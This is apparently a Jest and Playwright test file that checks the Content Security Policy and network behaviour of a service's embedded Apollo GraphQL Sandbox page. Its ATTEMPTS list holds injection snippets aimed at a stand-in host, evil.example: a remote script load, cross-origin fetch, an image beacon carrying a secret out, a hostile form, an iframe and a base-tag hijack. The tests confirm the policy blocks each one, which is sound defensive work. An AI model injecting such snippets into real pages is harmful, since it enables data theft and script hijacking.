import { readFileSync } from 'node:fs';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { getIntrospectionQuery } from 'graphql';
import type { Browser, BrowserContext, Page, Request } from 'playwright-core';
import { readSandboxDocument } from '../../../../src/bootstrap/sandbox-documents.ts';
import { startSimulator } from '../../../../src/simulator/simulator.ts';
import { CANARY_ACCESS } from '../../../support/canaries.ts';
import { closedAfterAll } from '../../../support/resources.ts';
import { startTestService, type TestService } from '../../../support/service.ts';
import {
  framePage,
  type Heard,
  LANDING_PAGE_CDN,
  SANDBOX_CDN,
  SANDBOX_FRAME,
  SANDBOX_SCRIPT,
} from './apollo.ts';
import { launchChromium } from './chromium.ts';

const INTROSPECTION = getIntrospectionQuery();
const FONT_CSS =
  "@font-face { font-family: 'Source Sans Pro'; src: url(https://fonts.gstatic.com/s/font.woff2); } body { font-family: 'Source Sans Pro'; }";

/** What Apollo and Google serve to the page, by the beginning of the address. */
const ELSEWHERE: Readonly<Record<string, { readonly contentType: string; readonly body: string }>> = {
  [`${SANDBOX_CDN}/v2/embeddable-sandbox.umd.production.min.js?`]: {
    contentType: 'text/javascript',
    body: SANDBOX_SCRIPT,
  },
  [`${SANDBOX_FRAME}/sandbox/explorer?`]: { contentType: 'text/html', body: framePage(INTROSPECTION) },
  [`${LANDING_PAGE_CDN}/_latest/`]: { contentType: 'application/json', body: '{}' },
  'https://fonts.googleapis.com/css2?': { contentType: 'text/css', body: FONT_CSS },
  'https://fonts.gstatic.com/s/': { contentType: 'font/woff2', body: '' },
};

interface Violation {
  /** The policy that was broken: this service's, or what Apollo Server writes into the page as well. */
  readonly policy: string;
  readonly directive: string;
  readonly blocked: string;
}

declare global {
  interface Window {
    /** Kept by the page, from its first moment on. */
    violations: Violation[];
    /** Kept by Apollo's frame. */
    heard: Heard[];
    /** Set by what must not run. */
    ran: boolean;
  }
}

const kept = closedAfterAll();
let browser: Browser;
let service: TestService;
beforeAll(async () => {
  browser = kept(await launchChromium());
  const simulator = kept(await startSimulator({ credentials: CANARY_ACCESS }));
  service = kept(await startTestService({ zApiUrl: simulator.url }));
});

let context: BrowserContext;
afterEach(() => context.close());

/** The page of the Sandbox, as a browser shows it that is led there from `/`, once Apollo's frame has had its answers. */
const openSandbox = async () => {
  context = await browser.newContext();
  /** Whom the page asked for what. What its policy blocks never gets there. */
  const asked = new Set<string>();
  const calls: Request[] = [];
  context.on('request', (request) => {
    if (request.url().startsWith(service.url)) calls.push(request);
  });
  await context.route(
    ({ origin }) => origin !== service.url,
    (route, request) => {
      const url = request.url();
      asked.add(`${new URL(url).origin} ${request.resourceType()}`);
      const [, served] = Object.entries(ELSEWHERE).find(([beginning]) => url.startsWith(beginning)) ?? [];
      return served ? route.fulfill(served) : route.abort();
    },
  );
  await context.addInitScript(() => {
    window.violations = [];
    window.addEventListener(
      'securitypolicyviolation',
      ({ originalPolicy, effectiveDirective, blockedURI }) => {
        window.violations.push({
          policy: originalPolicy,
          directive: effectiveDirective,
          blocked: blockedURI,
        });
      },
    );
  });
  const page = await context.newPage();
  await page.goto(service.url);
  const frame = page.frames().find((candidate) => candidate.url().startsWith(SANDBOX_FRAME));
  if (frame === undefined) throw new Error("the page embeds no frame of Apollo's");
  await frame.waitForFunction(() => window.heard.some(({ name }) => name === 'ExplorerResponse'));
  return { page, frame, asked, calls, violations: () => page.evaluate(() => window.violations) };
};

describe('the page of the Sandbox', () => {
  it('asks Apollo and the fonts it uses for what it is made of, and nobody else', async () => {
    const { page, asked } = await openSandbox();
    expect(page.url()).toBe(`${service.url}/graphql`);
    // The icon and the font come when they come.
    await page.waitForLoadState('networkidle');
    expect([...asked].sort()).toEqual([
      `${LANDING_PAGE_CDN} other`,
      `${SANDBOX_CDN} script`,
      'https://fonts.googleapis.com stylesheet',
      'https://fonts.gstatic.com font',
      `${SANDBOX_FRAME} document`,
    ]);
  });

  it('may load all of that, and run its own inline parts, by its own policy', async () => {
    const { page, violations } = await openSandbox();
    expect(await violations()).toEqual([]);
    // The inline style, which carries the nonce.
    expect(await page.locator('#embeddableSandbox').evaluate((node) => getComputedStyle(node).position)).toBe(
      'absolute',
    );
  });

  it("gives Apollo's frame the examples, and the address of this service", async () => {
    const { frame } = await openSandbox();
    const search = new URL(frame.url()).searchParams;
    expect(search.get('defaultDocument')).toBe(readSandboxDocument('simulator'));
    expect(search.get('endpoint')).toBe(`${service.url}/graphql`);
  });

  it("calls this service itself for Apollo's frame: from its own origin, without cookies", async () => {
    const { page, calls } = await openSandbox();
    const posts = calls.filter((request) => request.method() === 'POST');
    expect(posts.map((request) => [request.url(), request.frame() === page.mainFrame()])).toEqual([
      [`${service.url}/graphql`, true],
      [`${service.url}/graphql`, true],
    ]);
    expect(calls.filter((request) => request.method() === 'OPTIONS')).toEqual([]);
    for (const post of posts) {
      const headers = await post.allHeaders();
      expect(headers).toMatchObject({
        origin: service.url,
        'content-type': 'application/json',
      });
      expect(headers.cookie).toBeUndefined();
    }
    expect(posts.map((post) => post.postDataJSON())).toEqual([
      { query: INTROSPECTION, operationName: 'IntrospectionQuery' },
      { query: readSandboxDocument('simulator'), operationName: 'UnlinkSuccess_ACKNOWLEDGED', variables: {} },
    ]);
  });

  it('is answered with the schema, and with what became of the first operation', async () => {
    const { frame } = await openSandbox();
    const [greeting, schema, answer] = await frame.evaluate(() => window.heard);
    expect(greeting).toEqual({ name: 'HandshakeResponse', parentHref: `${service.url}/graphql` });
    const types = schema?.schema.__schema.types.map(({ name }: { readonly name: string }) => name);
    expect(types).toEqual(expect.arrayContaining(['UnlinkResult', 'UnlinkSuccess', 'CommunityError']));
    expect(answer?.response.data.unlinkGroups).toMatchObject({ __typename: 'UnlinkSuccess' });
  });
});

const EVIL = 'https://evil.example';

/** Attempts of whoever got something into the page, as code to run there; and what the policy says of each. */
const ATTEMPTS: readonly (readonly [what: string, code: string, violation: Omit<Violation, 'policy'>])[] = [
  [
    'a script from another host',
    `const script = document.createElement('script'); script.src = '${EVIL}/x.js'; document.head.append(script)`,
    { directive: 'script-src-elem', blocked: `${EVIL}/x.js` },
  ],
  [
    'an inline script',
    "const script = document.createElement('script'); script.textContent = 'window.ran = true'; document.head.append(script)",
    { directive: 'script-src-elem', blocked: 'inline' },
  ],
  [
    'a handler in an attribute',
    'document.body.insertAdjacentHTML("beforeend", `<b onclick="window.ran = true"></b>`); document.querySelector("b").click()',
    { directive: 'script-src-attr', blocked: 'inline' },
  ],
  [
    'a call to another origin',
    `fetch('${EVIL}/').catch(() => {})`,
    { directive: 'connect-src', blocked: `${EVIL}/` },
  ],
  [
    "a call to Apollo's own host, which the page has no need of",
    `fetch('${SANDBOX_FRAME}/').catch(() => {})`,
    { directive: 'connect-src', blocked: `${SANDBOX_FRAME}/` },
  ],
  [
    'a frame of another host',
    `const frame = document.createElement('iframe'); frame.src = '${EVIL}/'; document.body.append(frame)`,
    { directive: 'frame-src', blocked: EVIL },
  ],
  [
    'an image of another host, which could carry something out',
    `new Image().src = '${EVIL}/?secret'`,
    { directive: 'img-src', blocked: `${EVIL}/?secret` },
  ],
  [
    'a form that leads away',
    `const form = document.createElement('form'); form.action = '${EVIL}/'; document.body.append(form); form.submit()`,
    { directive: 'form-action', blocked: `${EVIL}/?` },
  ],
  [
    'another base of relative addresses',
    `const base = document.createElement('base'); base.href = '${EVIL}/'; document.head.append(base)`,
    { directive: 'base-uri', blocked: `${EVIL}/` },
  ],
];

describe('the policy of the page blocks', () => {
  it.each(ATTEMPTS)('%s', async (_, code, violation) => {
    const { page, asked, violations } = await openSandbox();
    await page.evaluate(code);
    await page.waitForFunction(() => window.violations.length > 0);
    const told = (await violations()).filter(({ policy }) => policy.startsWith("default-src 'none'"));
    expect(told).toEqual([expect.objectContaining(violation)]);
    expect(await page.evaluate(() => window.ran)).toBeUndefined();
    expect([...asked].filter((entry) => entry.startsWith(EVIL) || entry.endsWith(' fetch'))).toEqual([]);
  });
});

/**
 * A page of Apollo's host, served by a real server that the browser takes for one of the internet. A browser that asks its
 * user before it lets such a page reach this machine (Chromium since 142) wants nothing of the preflight but what CORS does.
 */
describe('the hosted Sandbox', () => {
  const HOSTED = 'https://studio.apollographql.com';
  const tls = (name: string) =>
    readFileSync(new URL(`../../../fixtures/tls/${name}.pem`, import.meta.url), 'utf8');
  let server: https.Server;
  let hosted: Browser;
  beforeAll(async () => {
    server = https.createServer({ cert: tls('trusted'), key: tls('server.key') }, (_, response) => {
      response.setHeader('content-type', 'text/html');
      response.end('<!DOCTYPE html><title>Sandbox</title>');
    });
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    const { port } = server.address() as AddressInfo;
    hosted = kept(
      await launchChromium([
        '--ignore-certificate-errors',
        `--host-resolver-rules=MAP studio.apollographql.com:443 127.0.0.1:${port}`,
        `--ip-address-space-overrides=127.0.0.1:${port}=public`,
      ]),
    );
  });
  afterAll(() => {
    server.closeAllConnections();
    server.close();
  });

  const callFrom = (page: Page) =>
    page.evaluate(
      async ([url, query]) => {
        const body = JSON.stringify({ query, operationName: 'IntrospectionQuery', variables: {} });
        const headers = { 'content-type': 'application/json' };
        const response = await fetch(`${url}/graphql`, {
          method: 'POST',
          credentials: 'omit',
          headers,
          body,
        });
        const { data, errors } = await response.json();
        return {
          requestId: response.headers.get('x-request-id'),
          root: data?.__schema.queryType.name,
          errors,
        };
      },
      [service.url, INTROSPECTION],
    );

  it('gets through once its user lets it reach this machine, and reads the request id', async () => {
    context = await hosted.newContext({ permissions: ['local-network-access'] });
    const page = await context.newPage();
    await page.goto(`${HOSTED}/sandbox/explorer`);
    expect(await callFrom(page)).toEqual({ requestId: expect.any(String), root: 'Query', errors: undefined });
  });

  it('is stopped by the browser otherwise', async () => {
    context = await hosted.newContext();
    const page = await context.newPage();
    await page.goto(`${HOSTED}/sandbox/explorer`);
    await expect(callFrom(page)).rejects.toThrow('Failed to fetch');
  });
});
